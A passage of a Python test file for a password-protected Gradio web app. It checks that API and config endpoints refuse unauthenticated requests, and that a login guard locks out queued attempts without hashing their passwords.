        for word in ("vote_left", "export_dpo", "gradio_api", "named_endpoints", "fn_index"):
            assert word not in page.text, word
        for path in ("gradio_api/info", "config", "gradio_api/info?all_endpoints=True"):
            assert http.get(f"{url}{path}").status_code == 401, path


# -- helpers --------------------------------------------------------------------------------

def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _wait_for(url: str) -> None:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            httpx.get(f"{url}login", timeout=2)
            return
        except httpx.TransportError:
            time.sleep(0.2)
    raise AssertionError(f"{url} did not start")


def _run_queued(http: httpx.Client, url: str, api_name: str, data: list) -> list:
    """Call a queued event as the page does: join, then read the SSE stream."""
    session = "s" + str(time.monotonic_ns())
    join = http.post(f"{url}gradio_api/queue/join", json={
        "data": data, "fn_index": _endpoints(http, url)[api_name], "session_hash": session,
        "event_data": None, "trigger_id": None})
    join.raise_for_status()
    with http.stream("GET", f"{url}gradio_api/queue/data",
                     params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                message = json.loads(line[5:])
                if message.get("msg") == "process_completed":
                    assert message.get("success"), message
                    return message["output"]["data"]
    raise AssertionError("no result")


def test_attempts_locked_while_queued_are_refused_unhashed():
    release, calls = threading.Event(), []

    def slow_verify(name: str, password: str) -> bool:
        calls.append(name)
        release.wait(10)
        return False

    guard = LoginGuard(slow_verify, Limits(free_per_user=0, hash_queue=10))

    async def three_at_once():
        tasks = [asyncio.create_task(guard.attempt("ann", "x", f"10.1.0.{i}")) for i in range(3)]
        await asyncio.sleep(0.2)  # the first is hashing, two wait in the queue
        release.set()
        return await asyncio.gather(*tasks)

    first, *queued = asyncio.run(three_at_once())
    assert not first.ok and first.retry_after == 0  # checked: a wrong password
    assert all(o.retry_after > 0 and not o.busy for o in queued)  # locked meanwhile
    assert calls == ["ann"]  # one hash, not three
    guard.close()
